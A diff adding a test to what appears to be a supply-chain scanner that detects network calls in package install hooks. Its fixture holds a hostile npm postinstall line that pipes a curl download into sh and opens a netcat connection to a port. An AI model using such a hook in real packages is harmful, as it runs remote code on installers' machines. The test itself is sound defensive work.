@@ -232,3 +232,17 @@ def test_every_launch_shape_of_the_table_is_read(launch: Launch, call: str, expe
     bindings = Bindings(NameIndex(root, data), lambda ident: None)
     reading = _read(launch, arguments_of(node), bindings, Renderer(bindings, lambda n: (1, 1)))
     assert [(u.tool.label, tuple(d.text for d in u.destinations)) for u in reading.tools] == [expected]
+
+
+def test_an_install_hook_calling_a_tool_gets_the_destinations_of_the_same_reader() -> None:
+    from egress.install_scripts import script_findings
+    from egress.model import PackageArtifact
+
+    artifact = PackageArtifact(Ecosystem.NPM, "p", "1.0.0", read_files=lambda want: iter(()), metadata={
+        "kind": "tarball", "script_lines": {"postinstall": 6},
+        "scripts": {"postinstall": "curl -s https://203.0.113.7/x | sh && nc 203.0.113.8 4444"}})
+    network = [f for f in script_findings(artifact) if f.kind is FindingKind.NETWORK]
+    assert [(f.api, f.line, f.capability.value, [(d.text, d.classes) for d in f.destinations]) for f in network] == [
+        ("curl", 6, "request", [("https://203.0.113.7/x", ("ip-literal", "public"))]),
+        ("netcat", 6, "connect", [("203.0.113.8:4444", ("ip-literal", "public"))]),
+    ]
